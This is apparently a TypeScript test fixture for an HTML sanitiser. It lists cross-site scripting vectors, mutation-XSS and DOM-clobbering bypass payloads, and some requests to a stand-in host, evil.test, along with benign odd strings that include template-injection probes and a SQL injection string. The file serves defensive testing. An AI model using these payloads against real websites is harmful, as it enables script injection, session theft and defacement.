/** Ways of smuggling a script or a request into markup, one of each kind. All of them mark `globalThis.pwned` or ask evil.test. */
export const scriptVectors: readonly string[] = [
  '<script>globalThis.pwned = 1</script>',
  '<ScRiPt src="//evil.test/x.js"></sCrIpT>',
  '<img src=x onerror="globalThis.pwned = 1">',
  '<img src="//evil.test/pixel.gif">',
  '<svg onload="globalThis.pwned = 1"></svg>',
  '<svg><script>globalThis.pwned = 1</script></svg>',
  '<svg><animate onbegin="globalThis.pwned = 1" attributeName=x dur=1s></svg>',
  '<math><mi xlink:href="javascript:globalThis.pwned = 1">x</mi></math>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<object data="javascript:globalThis.pwned = 1"></object>',
  '<embed src="//evil.test/x.swf">',
  '<a href="javascript:globalThis.pwned = 1">click</a>',
  '<a href="java&#10;script:globalThis.pwned = 1">click</a>',
  '<b onmouseover="globalThis.pwned = 1">hover</b>',
  '<b style="background:url(//evil.test/x)">style</b>',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><button formaction="javascript:globalThis.pwned = 1">go</button></form>',
  '<details open ontoggle="globalThis.pwned = 1">x</details>',
  '<input autofocus onfocus="globalThis.pwned = 1">',
]

/** Markup that parses differently the second time, or that clobbers the sanitiser's own names. */
export const bypassVectors: readonly string[] = [
  '<svg><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><input name=attributes>',
  '<a href=javascript:alert(1)>x</a>',
  '<span style=background:url(//evil.test)>x</span>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
  '<b id=tenant name=getElementById data-x=1 aria-label=x class=ek-btn>x</b>',
]

/** Text that only looks odd and must stay as it is written. */
export const oddTexts: readonly string[] = [
  'Ροδόλφος <3 & "co" \'co\'',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '\u202Eevil\u202C',
  'a\u0000b'.replace('\u0000', '\u200B'),
  '👩‍👩‍👧‍👦 é é ﷽',
  "'; DROP TABLE employees; --",
]
